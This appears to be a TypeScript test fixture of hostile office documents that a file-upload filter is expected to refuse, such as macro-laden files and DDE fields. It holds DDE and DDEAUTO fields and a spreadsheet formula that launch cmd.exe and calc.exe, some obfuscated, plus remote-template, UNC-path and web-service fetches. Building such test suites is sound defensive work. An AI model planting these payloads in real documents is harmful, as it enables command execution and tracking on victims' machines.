import { aDocx, anOpenDocument, anXlsx, relation, rels } from './office.js';
import { refused, type Specimen } from './specimen.js';

const field = (...codes: readonly string[]) =>
  codes.map((code) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`).join('');
const main = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const presentation = 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml';

export const hostileDocuments: readonly Specimen[] = [
  refused('a text with a macro', 'a.docm', 'macros', () => aDocx({ type: main })),
  refused('a text with a macro under another name', 'a.docx', 'macros', () =>
    aDocx({ parts: [{ name: 'word/vbaProject.bin', content: 'x' }] }),
  ),
  refused('a sheet with macros of old', 'a.xlsx', 'macros', () =>
    anXlsx({ parts: [{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }] }),
  ),
  refused('an open text with a macro', 'a.odt', 'macros', () =>
    anOpenDocument('text', { parts: [{ name: 'Basic/Standard/Module1.xml', content: '<a/>' }] }),
  ),
  refused('an open text that listens to events', 'a.odt', 'macros', () =>
    anOpenDocument('text', { body: '<script:event-listener script:event-name="dom:load"/>' }),
  ),
  refused('a text whose field calls a programme', 'a.docx', 'commands', () =>
    aDocx({ body: field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"') }),
  ),
  refused('a text whose field is cut into letters', 'a.docx', 'commands', () =>
    aDocx({ body: field('D', 'D', 'E', 'AUTO cmd') }),
  ),
  refused('a text whose field is written in numbers', 'a.docx', 'commands', () =>
    aDocx({ body: field('&#68;&#x44;E cmd') }),
  ),
  refused('a text with a simple field that calls', 'a.docx', 'commands', () =>
    aDocx({ body: '<w:fldSimple w:instr="DDE cmd calc"/>' }),
  ),
  refused('a text whose field stands behind a megabyte', 'a.docx', 'commands', () =>
    aDocx({ body: `<w:p>${'<w:r><w:t>mot</w:t></w:r>'.repeat(60_000)}</w:p>${field('DDEAUTO cmd')}` }),
  ),
  refused('a sheet whose formula calls a programme', 'a.xlsx', 'commands', () =>
    anXlsx({ body: `<c r="A1"><f>cmd|'/c calc'!A0</f></c>` }),
  ),
  refused('a sheet with a call as a link', 'a.xlsx', 'commands', () =>
    anXlsx({
      parts: [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          content: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        },
      ],
    }),
  ),
  refused('an open sheet that calls a programme', 'a.ods', 'commands', () =>
    anOpenDocument('spreadsheet', {
      body: '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;)"/>',
    }),
  ),
  refused('a text with a template from elsewhere', 'a.docx', 'external-content', () =>
    aDocx({
      parts: [
        {
          name: 'word/_rels/settings.xml.rels',
          content: rels(relation('attachedTemplate', 'https://example.org/t.dotm')),
        },
      ],
    }),
  ),
  refused('a text with a template written in numbers', 'a.docx', 'external-content', () =>
    aDocx({ relations: [relation('attachedTemplate', 'https://example.org/t.dotm', 'Exter&#110;al')] }),
  ),
  refused('a text with a picture from elsewhere', 'a.docx', 'external-content', () =>
    aDocx({ relations: [relation('image', 'https://example.org/seen.png')] }),
  ),
  refused('a text with a frame from elsewhere', 'a.docx', 'external-content', () =>
    aDocx({ relations: [relation('frame', '\\\\198.51.100.7\\a')] }),
  ),
  refused('a sheet linked with another computer', 'a.xlsx', 'external-content', () =>
    anXlsx({ relations: [relation('externalLinkPath', 'https://example.org/b.xlsx')] }),
  ),
  refused('a sheet that fetches its data', 'a.xlsx', 'external-content', () =>
    anXlsx({ parts: [{ name: 'xl/connections.xml', content: '<connections/>' }] }),
  ),
  refused('a sheet that asks a service', 'a.xlsx', 'external-content', () =>
    anXlsx({ body: '<c r="A1"><f>_xlfn.WEBSERVICE("https://example.org")</f></c>' }),
  ),
  refused('an open text with a picture from elsewhere', 'a.odt', 'external-content', () =>
    anOpenDocument('text', { body: '<draw:image xlink:href="https://example.org/seen.png"/>' }),
  ),
  refused('a text with definitions that grow', 'a.docx', 'external-content', () =>
    aDocx({
      parts: [{ name: 'word/styles.xml', content: '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>' }],
    }),
  ),
  refused('a text with an object of another programme', 'a.docx', 'embedded-files', () =>
    aDocx({ parts: [{ name: 'word/embeddings/oleObject1.bin', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }] }),
  ),
  refused('a text with a programme inside', 'a.docx', 'embedded-files', () =>
    aDocx({ parts: [{ name: 'word/media/a.png', content: Buffer.from('MZ\u0090\u0000', 'latin1') }] }),
  ),
  refused('a text with a page of the web inside', 'a.docx', 'embedded-files', () =>
    aDocx({
      relations: [relation('aFChunk', 'a.html', 'Internal')],
      parts: [{ name: 'word/a.html', content: '<script/>' }],
    }),
  ),
  refused('a text in letters that hide', 'a.docx', 'damaged', () =>
    aDocx({ parts: [{ name: 'word/a.xml', content: Buffer.from('\ufeff<a>DDE</a>', 'utf16le') }] }),
  ),
  refused('an open text with a password', 'a.odt', 'password-protected', () =>
    anOpenDocument('text', { manifest: '<manifest:encryption-data manifest:checksum="x"/>' }),
  ),
  refused('a text without its text', 'a.docx', 'damaged', withoutText),
  refused('a presentation', 'a.pptx', 'type-refused', () => aDocx({ type: presentation })),
  refused('an open presentation', 'a.odp', 'type-refused', () => anOpenDocument('presentation')),
];

function withoutText(): Buffer {
  return Buffer.from(aDocx().toString('latin1').replaceAll('word/document.xml', 'word/nothings.xml'), 'latin1');
}
